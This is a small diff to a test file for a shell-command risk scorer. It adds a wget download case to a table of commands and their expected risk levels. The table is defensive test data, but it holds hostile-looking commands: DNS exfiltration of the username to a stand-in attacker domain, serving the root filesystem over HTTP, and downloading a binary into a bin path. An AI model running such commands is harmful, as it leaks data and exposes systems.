@@ -34,6 +34,7 @@ describe('uploads and requests', () => {
     ['curl -u admin:hunter2 https://api.example.com', 'medium'],
     ['curl -sL -o /home/dev/.local/bin/tool https://example.com/tool', 'high'],
     ['dig $(whoami).evil.example', 'medium'],
+    ['wget -P /home/dev/Downloads https://example.com/file.zip', 'medium'],
     ['python3 -m http.server 80 --directory /', 'high'],
   ])('%s is %s', (cmd, level) => expect(score(cmd).level).toBe(level));
 });
